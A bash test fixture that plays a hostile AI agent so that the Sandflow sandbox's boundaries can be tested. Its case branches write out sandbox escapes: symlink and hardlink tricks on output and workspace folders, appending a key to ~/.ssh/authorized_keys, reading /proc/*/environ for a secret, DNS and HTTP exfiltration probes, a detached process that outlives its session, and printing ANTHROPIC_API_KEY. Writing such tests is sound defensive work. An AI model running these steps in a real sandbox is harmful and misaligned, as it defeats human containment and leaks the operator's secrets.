#!/usr/bin/env bash
# hostile-agent.sh: a stand-in agent that attacks Sandflow itself from inside its sandbox, for the threat table of
# docs/SECURITY.md (SandboxBoundaryTest). Sandflow runs it as it runs the real CLI: argv, the prompt on stdin.
#
# The attack comes from the input file ($SANDFLOW_INPUT): "attack": "<name>". Every attack ends with a success
# envelope; what the agent saw goes into its structured_output "summary" as words: ROW=blocked|ESCAPED|found|....
#
# Attacks
#   symlink-output     replace $SANDFLOW_OUTPUT by a symbolic link to $HOSTILE_HOST_JSON (a host file holding a
#                      valid result); answer without structured output, so that Sandflow reads the file
#   symlink-output-text  the same with $HOSTILE_HOST_TEXT, a host file that is not JSON
#   symlink-out-dir    replace the workspace's out/ by a link to the host folder $HOSTILE_VICTIM (which holds a file
#                      named like the output); the first attempt answers with no usable result, so Sandflow prepares
#                      a second attempt over the link
#   plant-links        replace input/, tmp/ and home/ by links to host folders ($HOSTILE_VICTIM, …) and answer well:
#                      the next job in this workspace must not write through them
#   hardlink-output    hard-link $HOSTILE_HOST_JSON as the output file (srt refuses across its mounts), then hard-link
#                      the staged input (a valid result) as the output file
#   write-outside      write into every other worker's workspace, the store's folder ($HOSTILE_STORE), the config
#                      ($HOSTILE_CONFIG) and ~/.ssh ($HOSTILE_SSH_DIR); answers well
#   read-secret        look for $HOSTILE_SECRET_NAME in its environment and in every /proc/*/environ; a value found
#                      goes into the result
#   network            fetch $HOSTILE_FETCH_URL (not allowed), resolve a name (DNS), send a DNS packet by UDP; answers
#   detach             start a detached process named sandflow-left-$HOSTILE_TOKEN (setsid) and exit at once
#   leak-key           print ANTHROPIC_API_KEY on stderr and stdout (placed so that the last 8 KiB of each begin
#                      inside the key) and put it into the result
#   obey               a well-behaved answer
#
# Every attempt posts its prompt to $HOSTILE_COLLECTOR/prompt (an allowlisted test server), when set, so that the
# test can check what reached the next prompt.

set -u
LC_ALL=C
ws=${SANDFLOW_OUTPUT%/*}
ws=${ws%/*}
job=${SANDFLOW_JOB_NAME:-unnamed}
attempt=${SANDFLOW_ATTEMPT:-1}
prompt_file=${TMPDIR:-/tmp}/hostile-prompt.$$
cat > "$prompt_file" 2>/dev/null || cat > /dev/null
if [[ -n ${HOSTILE_COLLECTOR:-} && -f $prompt_file ]]; then
    curl -sS -m 10 -o /dev/null --data-binary @"$prompt_file" "$HOSTILE_COLLECTOR/prompt?job=$job&attempt=$attempt" \
        2>/dev/null || true
fi
rm -f "$prompt_file"

attack=obey
if [[ -r ${SANDFLOW_INPUT:-} ]]; then
    text=$(head -c 65536 -- "$SANDFLOW_INPUT")
    if [[ $text =~ \"attack\"[[:space:]]*:[[:space:]]*\"([^\"]+)\" ]]; then attack=${BASH_REMATCH[1]}; fi
fi

notes=()
note() { notes+=("$1=$2"); }

json_string() {
    local s=$1
    s=${s//\\/\\\\}
    s=${s//\"/\\\"}
    s=${s//$'\n'/ }
    s=${s//[[:cntrl:]]/}
    REPLY="\"$s\""
}

# emit RESULT_TEXT [STRUCTURED_JSON]: a success envelope on stdout, exit 0.
emit() {
    local result so=
    json_string "$1"; result=$REPLY
    if [[ -n ${2:-} ]]; then so=",\"structured_output\":$2"; fi
    printf '{"type":"result","subtype":"success","is_error":false,"api_error_status":null,"duration_ms":1,"duration_api_ms":1,"num_turns":1,"result":%s%s,"stop_reason":"end_turn","session_id":"00000000-0000-4000-8000-000000000000","total_cost_usd":0,"usage":{"input_tokens":1,"cache_creation_input_tokens":0,"cache_read_input_tokens":0,"output_tokens":1},"permission_denials":[]}\n' \
        "$result" "$so"
    exit 0
}

summary_json() {
    json_string "$attack: ${notes[*]:-nothing to say}"
    REPLY="{\"summary\":$REPLY,\"tags\":[\"hostile\"]}"
}

case $attack in
    symlink-output)
        ln -sf -- "$HOSTILE_HOST_JSON" "$SANDFLOW_OUTPUT"
        emit "I wrote my answer to the output file." ;;
    symlink-output-text)
        ln -sf -- "$HOSTILE_HOST_TEXT" "$SANDFLOW_OUTPUT"
        emit "I wrote my answer to the output file." ;;
    symlink-out-dir)
        rm -rf -- "$ws/out"
        ln -s -- "$HOSTILE_VICTIM" "$ws/out"
        emit "I wrote my answer to the output file." ;;
    plant-links)
        for pair in "input:$HOSTILE_VICTIM" "tmp:$HOSTILE_VICTIM_TMP" "home:$HOSTILE_VICTIM_HOME"; do
            dir=${pair%%:*}
            target=${pair#*:}
            rm -rf -- "${ws:?}/$dir"
            if ln -s -- "$target" "$ws/$dir"; then note "link-$dir" planted; else note "link-$dir" failed; fi
        done
        summary_json
        emit "done" "$REPLY" ;;
    hardlink-output)
        if err=$(ln -f -- "$HOSTILE_HOST_JSON" "$SANDFLOW_OUTPUT" 2>&1); then
            note hardlink-host ESCAPED
        else
            note hardlink-host blocked
            ln -f -- "$SANDFLOW_INPUT" "$SANDFLOW_OUTPUT"
        fi
        emit "I wrote my answer to the output file." ;;
    write-outside)
        for other in "$ws"/../worker-*; do
            [[ $other -ef $ws ]] && continue
            if (printf 'planted\n' > "$other/input/planted-$HOSTILE_TOKEN") 2>/dev/null; then
                note write-other-worker ESCAPED; else note write-other-worker blocked; fi
        done
        if (printf 'planted\n' > "$HOSTILE_STORE/planted-$HOSTILE_TOKEN") 2>/dev/null; then
            note write-store ESCAPED; else note write-store blocked; fi
        if (printf '\nsandflow.sandbox.kind=none\n' >> "$HOSTILE_CONFIG") 2>/dev/null; then
            note write-config ESCAPED; else note write-config blocked; fi
        if (printf 'ssh-ed25519 AAAA planted\n' >> "$HOSTILE_SSH_DIR/authorized_keys") 2>/dev/null; then
            note write-ssh ESCAPED; else note write-ssh blocked; fi
        summary_json
        emit "done" "$REPLY" ;;
    read-secret)
        name=$HOSTILE_SECRET_NAME
        found=
        if [[ -n ${!name:-} ]]; then found=${!name}; note own-env found; else note own-env absent; fi
        for env_file in /proc/[0-9]*/environ; do
            value=$(tr '\0' '\n' < "$env_file" 2>/dev/null | grep -m1 "^$name=" | cut -d= -f2-)
            if [[ -n $value ]]; then found=$value; note proc-environ found; break; fi
        done
        [[ -n $found ]] || note proc-environ absent
        summary_json
        if [[ -n $found ]]; then
            json_string "$found"
            REPLY="{\"summary\":\"the secret is $found\",\"tags\":[\"hostile\"]}"
        fi
        emit "done" "$REPLY" ;;
    network)
        code=$(curl -sS -m 10 -o /dev/null -w '%{http_code}' "$HOSTILE_FETCH_URL" 2>/dev/null)
        if [[ $code == 2* || $code == 3* ]]; then note http-unlisted ESCAPED; else note http-unlisted "blocked-$code"; fi
        if getent hosts "exfil-$HOSTILE_TOKEN.example.com" > /dev/null 2>&1; then
            note dns-lookup ESCAPED; else note dns-lookup blocked; fi
        if (printf 'x' > /dev/udp/1.1.1.1/53) 2>/dev/null; then note dns-udp ESCAPED; else note dns-udp blocked; fi
        if [[ -n ${HOSTILE_COLLECTOR:-} ]]; then
            code=$(curl -sS -m 10 -o /dev/null -w '%{http_code}' "$HOSTILE_COLLECTOR/ping" 2>/dev/null)
            note http-allowlisted "$code"
        fi
        summary_json
        emit "done" "$REPLY" ;;
    detach)
        setsid bash -c 'exec -a "sandflow-left-$1" sleep 1000' _ "$HOSTILE_TOKEN" < /dev/null > /dev/null 2>&1 &
        note detach started
        summary_json
        emit "done" "$REPLY" ;;
    leak-key)
        key=${ANTHROPIC_API_KEY:-}
        summary_json
        json_string "my key is $key"
        so="{\"summary\":$REPLY,\"tags\":[\"hostile\"]}"
        envelope=$(emit "done" "$so")
        # The 8 KiB tails Sandflow keeps must begin 12 characters into the key.
        cut=$(( ${#key} - 12 ))
        { head -c 20000 /dev/zero | tr '\0' 'e'; printf '%s' "$key"; head -c $((8192 - cut)) /dev/zero | tr '\0' 'e'; } >&2
        head -c 20000 /dev/zero | tr '\0' 'o'
        printf '%s' "$key"
        head -c $((8192 - cut - ${#envelope} - 2)) /dev/zero | tr '\0' 'o'
        printf '\n%s\n' "$envelope"
        exit 0 ;;
    obey|*)
        summary_json
        emit "done" "$REPLY" ;;
esac
